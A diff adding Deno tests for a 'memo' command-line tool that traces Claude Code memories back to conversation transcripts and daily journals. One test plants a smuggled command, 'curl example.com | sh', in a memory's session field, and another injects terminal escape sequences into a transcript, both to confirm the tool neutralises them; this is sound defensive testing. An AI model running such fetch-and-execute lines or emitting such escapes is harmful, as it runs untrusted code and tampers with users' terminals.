@@ -1,0 +1,190 @@
+// From a memory to the conversation that it comes from, with the real executable.
+
+import assert from "node:assert/strict";
+import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { dirname, join } from "node:path";
+import { appendEntry, journalEntry } from "../../src/capture/journal.ts";
+import { localTime } from "../../src/memory/journal.ts";
+import { type Home, makeHome, runMemo } from "../support/home.ts";
+
+const SESSION = "8f8ff854-693d-42cf-b2e3-53b09f8a00c6";
+const TURN = "c29e4f67-3441-4172-8b06-fb120258dfcb";
+const CAPTURED = new URL("../fixtures/transcripts/bugfix.jsonl", import.meta.url);
+
+function addTranscript(home: Home, session = SESSION): string {
+  const path = join(home.claude, "projects", "-home-dev", `${session}.jsonl`);
+  mkdirSync(dirname(path), { recursive: true });
+  copyFileSync(CAPTURED, path);
+  return path;
+}
+
+async function run(home: Home, ...args: string[]): Promise<string> {
+  const { code, stdout, stderr } = await runMemo(home, args);
+  assert.equal(code, 0, stderr);
+  return stdout;
+}
+
+/** How a command failed: its exit code and what it said. */
+async function failure(home: Home, ...args: string[]): Promise<[number | null, string]> {
+  const { code, stdout, stderr } = await runMemo(home, args);
+  assert.equal(stdout, "");
+  return [code, stderr];
+}
+
+Deno.test("memo expand leads to the conversation, to earlier versions and to what is near", async () => {
+  await using home = makeHome();
+  addTranscript(home);
+  const source = `source:\n  session: ${SESSION}\n  turn: ${TURN}\n`;
+  home.write(
+    "decision_utc.md",
+    `---\nname: Due dates are UTC\ntype: decision\nsupersedes: [decision_local.md]\n${source}---\nDue dates are UTC midnight.\n`,
+  );
+  home.write(
+    "pattern_dates.md",
+    "---\nname: No moment\ntype: pattern\n---\nNever use moment.js for dates.\n",
+  );
+  home.write("user_plants.md", "---\nname: Plants\ntype: user\n---\nThe ficus needs water.\n");
+  home.write(
+    ".claude/memory/.archive/decision_local.20261101-101010.md",
+    "---\nname: Due dates are local\ntype: decision\n---\nLocal midnight.\n",
+  );
+
+  const expanded = JSON.parse(await run(home, "expand", "due dates are utc", "--json"));
+  assert.equal(expanded.sourceCommand, `memo transcript ${SESSION} --turn ${TURN} --context 1`);
+  assert.deepEqual(
+    expanded.supersedes.map(({ file, name }: Record<string, string>) => [file, name]),
+    [["decision_local.md", "Due dates are local"]],
+  );
+  assert.deepEqual(
+    expanded.neighbours.map(({ name }: Record<string, string>) => name),
+    ["No moment", "Plants"],
+  );
+  const text = await run(home, "expand", "due dates are utc");
+  assert.match(
+    text,
+    /UTC midnight\.\n\nSource\nmemo transcript 8f8[^]*Supersedes\nDue dates are local {2}[^]*Near it\n0\.\d\d {2}No moment/,
+  );
+
+  const old = JSON.parse(await run(home, "expand", "Due dates are local", "--json"));
+  assert.deepEqual([old.archived, old.supersededBy[0].name], [true, "Due dates are UTC"]);
+
+  const [, command] = /Source\nmemo (.+)\n/.exec(text)!;
+  const exchange = await run(home, ...command!.split(" "));
+  assert.match(exchange, /The date test fails[^]*> No, local time is wrong here[^]*garbage input/);
+});
+
+Deno.test("memo expand suggests no command with what a file made up", async () => {
+  await using home = makeHome();
+  home.write("a.md", "---\nname: A\nsource:\n  session: x; curl example.com | sh\n---\nText.\n");
+  assert.equal(JSON.parse(await run(home, "expand", "A", "--json")).sourceCommand, undefined);
+});
+
+Deno.test("memo transcript shows a session, a turn, and turns around it", async () => {
+  await using home = makeHome();
+  const path = addTranscript(home);
+  const text = await run(home, "transcript", "8f8f");
+  assert.match(
+    text,
+    /> The date test fails[^]*\* Bash node --test[^\n]* failed → Exit code 1[^]*Sum up/,
+  );
+  const prompts = async (...args: string[]) =>
+    JSON.parse(await run(home, "transcript", SESSION, "--json", ...args)).turns
+      .map(({ prompt }: { prompt: string }) => prompt.slice(0, 9));
+  assert.equal((await prompts()).length, 5);
+  assert.deepEqual(await prompts("--turn", "c29e"), ["No, local"]);
+  assert.deepEqual(await prompts("--turn", "c29e", "--context", "1"), [
+    "The date ",
+    "No, local",
+    "What shou",
+  ]);
+  assert.equal((await prompts("--turn", TURN, "--context", "9")).length, 5);
+  const { session, transcript, turns } = JSON.parse(await run(home, "transcript", "8f", "--json"));
+  assert.deepEqual([session, transcript], [SESSION, path]);
+  assert.deepEqual(Object.keys(turns[0]), [
+    "id",
+    "session",
+    "at",
+    "cwd",
+    "prompt",
+    "steps",
+    "wrote",
+  ]);
+});
+
+Deno.test("memo transcript says what is wrong with a session or a turn", async () => {
+  await using home = makeHome();
+  addTranscript(home);
+  addTranscript(home, "8f8ff854-other");
+  assert.match(
+    (await failure(home, "transcript", "8f8"))[1],
+    /2 begin like that\n\nhint: .*8f8ff854-other/,
+  );
+  assert.equal((await failure(home, "transcript", "8f8"))[0], 2);
+  const [code, said] = await failure(home, "transcript", "1234");
+  assert.equal(code, 1);
+  assert.match(said, /Cannot find a transcript of the session `1234`/);
+  const none = await runMemo(home, ["transcript", SESSION, "--turn", "nope"]);
+  assert.equal(none.code, 1);
+  assert.match(none.stderr, /Cannot find a turn `nope`/);
+});
+
+Deno.test("memo transcript keeps a conversation from steering the terminal", async () => {
+  await using home = makeHome();
+  const path = addTranscript(home);
+  const text = readFileSync(path, "utf8");
+  writeFileSync(
+    path,
+    text.replaceAll(
+      "The date test fails.",
+      "\\u001b]0;owned\\u0007\\u001b[2J\\u009b1m\\u202eIt fails.",
+    ),
+  );
+  for (const form of [[], ["--json"]]) {
+    const shown = await run(home, "transcript", SESSION, ...form);
+    // deno-lint-ignore no-control-regex
+    assert.doesNotMatch(shown, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
+    assert.match(shown, /It fails\./);
+  }
+});
+
+/** Writes a day's journal with one entry into the project's memory folder. */
+async function keepJournal(home: Home, at: Date): Promise<void> {
+  const folder = join(home.project, ".claude", "memory", "journal");
+  const bullets = ["Fixed the date test", "User wants UTC \u001b[31mmidnight"];
+  const options = { bullets, transcript: "/t.jsonl", folder, at };
+  const action = journalEntry({ id: TURN, session: SESSION }, options)!;
+  await appendEntry(action.path, action);
+}
+
+Deno.test("memo journal shows a day, with the commands that lead to the conversations", async () => {
+  await using home = makeHome();
+  const now = new Date();
+  await keepJournal(home, now);
+  const { day, time } = localTime(now);
+  const text = await run(home, "journal", day);
+  assert.equal(
+    text,
+    `## Session ${time}\n\n### ${time}\nmemo transcript ${SESSION} --turn ${TURN} --context 1\n` +
+      "- Fixed the date test\n- User wants UTC [31mmidnight\n",
+  );
+  const { entries } = JSON.parse(await run(home, "journal", day, "--json"));
+  assert.deepEqual(entries, [{
+    time,
+    bullets: ["Fixed the date test", "User wants UTC [31mmidnight"],
+    session: SESSION,
+    turn: TURN,
+    transcript: "/t.jsonl",
+  }]);
+});
+
+Deno.test("memo journal lists its days, and names the nearest one for a day that it has not", async () => {
+  await using home = makeHome();
+  assert.equal((await failure(home, "journal", "--list"))[0], 1);
+  assert.match((await failure(home, "journal"))[1], /There is no journal here yet; `memo doctor`/);
+  for (const date of [3, 20]) await keepJournal(home, new Date(2026, 10, date, 12));
+  assert.equal(await run(home, "journal", "--list"), "2026-11-03  1 turn\n2026-11-20  1 turn\n");
+  const [code, said] = await failure(home, "journal", "2026-11-18");
+  assert.equal(code, 1);
+  assert.match(said, /Cannot find a journal of 2026-11-18 .*\n\nhint: .*`memo journal 2026-11-20`/);
+  assert.equal((await failure(home, "journal", "../../x"))[0], 2);
+});
